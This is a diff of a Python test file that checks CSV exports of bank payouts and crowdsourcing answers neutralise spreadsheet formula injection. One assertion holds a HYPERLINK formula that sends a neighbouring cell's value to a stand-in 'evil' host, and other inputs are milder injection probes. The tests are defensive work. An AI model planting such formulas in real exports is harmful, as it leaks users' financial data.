@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -71,7 +72,7 @@ def test_payouts_export_neutralises_formulas(db: Database, tmp_path: Path) -> No
     out = tmp_path / "bank.csv"
     with db.read_session() as s:
         payouts.write_csv(payouts.export_rows(s), out)
-    (row,) = list(csv.DictReader(out.open(encoding="utf-8-sig")))
+    (row,) = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
     assert row["name"] == '\'=HYPERLINK("http://evil/?"&E2,"Click")'
     assert row["holder"] == "'@holder"
     assert row["account_number"] == "110000000001" and row["amount"] == "10000"
@@ -211,9 +212,9 @@ def test_answer_and_result_exports_neutralise_formulas(db: Database, tmp_path: P
         worker.name = "=1+2"
     out = tmp_path / "answers.csv"
     export.export(db, project.id, what="answers", fmt="csv", out=out, secret="s", reveal_workers=True)
-    rows = list(csv.DictReader(out.open(newline="")))
+    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
     assert {r["worker_name"] for r in rows} == {"'=1+2"}
     assert sorted(r["external_id"] for r in rows) == ["'@a.jpg", "b.jpg"]
     results = tmp_path / "results.csv"
     export.export(db, project.id, what="results", fmt="csv", out=results, secret="s", method="majority_vote")
-    assert sorted(r["external_id"] for r in csv.DictReader(results.open(newline=""))) == ["'@a.jpg", "b.jpg"]
+    assert sorted(r["external_id"] for r in csv.DictReader(io.StringIO(results.read_text(), newline=""))) == ["'@a.jpg", "b.jpg"]
